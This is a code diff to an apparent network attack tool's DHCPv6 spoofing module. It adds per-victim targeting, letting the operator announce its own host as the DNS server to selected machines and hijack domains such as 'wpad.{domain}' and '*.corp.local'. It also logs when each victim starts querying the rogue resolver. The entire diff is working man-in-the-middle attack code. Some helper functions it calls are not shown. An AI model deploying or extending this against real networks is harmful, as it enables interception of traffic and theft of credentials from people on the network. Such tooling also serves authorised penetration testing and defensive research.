@@ -26,11 +26,14 @@ import (
 
 type DHCP6Spoofer struct {
 	session.SessionModule
+	*sync.Mutex
 	Handle        *pcap.Handle
 	DUID          *dhcp6opts.DUIDLLT
 	DUIDRaw       []byte
 	Domains       []string
 	RawDomains    []byte
+	Targets       []*Target
+	Clients       map[string]*Client
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -38,7 +41,10 @@ type DHCP6Spoofer struct {
 func NewDHCP6Spoofer(s *session.Session) *DHCP6Spoofer {
 	mod := &DHCP6Spoofer{
 		SessionModule: session.NewSessionModule("dhcp6.spoof", s),
+		Mutex:         &sync.Mutex{},
 		Handle:        nil,
+		Targets:       make([]*Target, 0),
+		Clients:       make(map[string]*Client),
 		waitGroup:     &sync.WaitGroup{},
 	}
 
@@ -61,6 +67,27 @@ func NewDHCP6Spoofer(s *session.Session) *DHCP6Spoofer {
 			return mod.Stop()
 		}))
 
+	mod.AddHandler(session.NewModuleHandler("dhcp6.spoof.target MATCH DNS DOMAINS", `dhcp6\.spoof\.target ([^\s]+) ([^\s]+) ([^\s]+)`,
+		"Announce DNS (an IPv6 address or self) and hijack the comma separated DOMAINS for the clients matching MATCH (a MAC address, a MAC prefix, a CIDR of their IPv4 addresses or *), domains can use the {hostname}, {domain} and {mac} variables of the client and are answered by dns.spoof, for instance: dhcp6.spoof.target 00:50:56 self wpad.{domain},*.corp.local",
+		func(args []string) error {
+			return mod.addTarget(args[0], args[1], args[2])
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp6.spoof.targets", "",
+		"Show the per client targets and the clients seen so far.",
+		func(args []string) error {
+			return mod.showTargets()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp6.spoof.targets.clear", "",
+		"Remove every per client target, reverting to the global behaviour.",
+		func(args []string) error {
+			mod.clearTargets()
+			return nil
+		}))
+
+	mod.InitState("targets", "clients")
+
 	return mod
 }
 
@@ -112,14 +139,14 @@ func (mod *DHCP6Spoofer) Configure() error {
 	return nil
 }
 
-func (mod *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet) (err error, p dhcp6.Packet) {
+func (mod *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet, client *Client) (err error, p dhcp6.Packet) {
 	err, p = packets.DHCP6For(what, to, mod.DUIDRaw)
 	if err != nil {
 		return
 	}
 
-	p.Options.AddRaw(packets.DHCP6OptDNSServers, mod.Session.Interface.IPv6)
-	p.Options.AddRaw(packets.DHCP6OptDNSDomains, mod.RawDomains)
+	p.Options.AddRaw(packets.DHCP6OptDNSServers, client.dns)
+	p.Options.AddRaw(packets.DHCP6OptDNSDomains, packets.DHCP6EncodeList(client.Domains))
 
 	return nil, p
 }
@@ -127,14 +154,20 @@ func (mod *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet) (err
 func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet, target net.HardwareAddr) {
 	pip6 := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6)
 
-	fqdn := target.String()
+	var rawFQDN []byte
 	if raw, found := solicit.Options[packets.DHCP6OptClientFQDN]; found && len(raw) >= 1 {
-		fqdn = string(raw[0])
+		rawFQDN = raw[0]
+	}
+
+	client := mod.clientFor(target, rawFQDN)
+	fqdn := target.String()
+	if client.Hostname != "" {
+		fqdn = client.Hostname
 	}
 
-	mod.Info("Got DHCPv6 Solicit request from %s (%s), sending spoofed advertisement for %d domains.", tui.Bold(fqdn), target, len(mod.Domains))
+	mod.Info("Got DHCPv6 Solicit request from %s (%s), sending spoofed advertisement for %d domains.", tui.Bold(fqdn), target, len(client.Domains))
 
-	err, adv := mod.dhcp6For(dhcp6.MessageTypeAdvertise, solicit)
+	err, adv := mod.dhcp6For(dhcp6.MessageTypeAdvertise, solicit, client)
 	if err != nil {
 		mod.Error("%s", err)
 		return
@@ -228,7 +261,7 @@ func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet
 func (mod *DHCP6Spoofer) dhcpReply(toType string, pkt gopacket.Packet, req dhcp6.Packet, target net.HardwareAddr) {
 	mod.Debug("Sending spoofed DHCPv6 reply to %s after its %s packet.", tui.Bold(target.String()), toType)
 
-	err, reply := mod.dhcp6For(dhcp6.MessageTypeReply, req)
+	err, reply := mod.dhcp6For(dhcp6.MessageTypeReply, req, mod.clientFor(target, nil))
 	if err != nil {
 		mod.Error("%s", err)
 		return
@@ -328,12 +361,55 @@ func (mod *DHCP6Spoofer) duidMatches(dhcp dhcp6.Packet) bool {
 	return false
 }
 
+// keep track of the clients using us as their resolver, their queries are
+// answered by dns.spoof
+func (mod *DHCP6Spoofer) onDNS(pkt gopacket.Packet, eth *layers.Ethernet, ip6 *layers.IPv6) {
+	req, ok := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
+	if !ok || req.QR || len(req.Questions) == 0 {
+		return
+	}
+
+	query := string(req.Questions[0].Name)
+
+	mod.Lock()
+	client, found := mod.Clients[eth.SrcMAC.String()]
+	if !found {
+		client = &Client{MAC: eth.SrcMAC.String()}
+		mod.Clients[client.MAC] = client
+		mod.State.Store("clients", mod.Clients)
+	}
+	client.Queries++
+	client.LastQuery = time.Now()
+	first := client.FirstQuery.IsZero()
+	if first {
+		client.FirstQuery = client.LastQuery
+	}
+	mod.Unlock()
+
+	if first {
+		mod.Info("%s (%s) started using our resolver, first query %s", tui.Bold(client.MAC), client.Hostname, tui.Yellow(query))
+		mod.Session.Events.Add("dhcp6.spoof.client.dns", ClientEvent{
+			MAC:      client.MAC,
+			Address:  ip6.SrcIP.String(),
+			Hostname: client.Hostname,
+			Query:    query,
+		})
+	}
+}
+
 func (mod *DHCP6Spoofer) onPacket(pkt gopacket.Packet) {
 	var dhcp dhcp6.Packet
 	var err error
 
-	udp := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
-	if udp == nil {
+	udp, ok := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP)
+	if !ok {
+		return
+	}
+
+	if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok && udp.DstPort == 53 && ip6.DstIP.Equal(mod.Session.Interface.IPv6) {
+		if eth, ok := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet); ok {
+			mod.onDNS(pkt, eth, ip6)
+		}
 		return
 	}
 
@@ -384,5 +460,6 @@ func (mod *DHCP6Spoofer) Stop() error {
 		mod.pktSourceChan <- nil
 		mod.Handle.Close()
 		mod.waitGroup.Wait()
+		mod.clearRules()
 	})
 }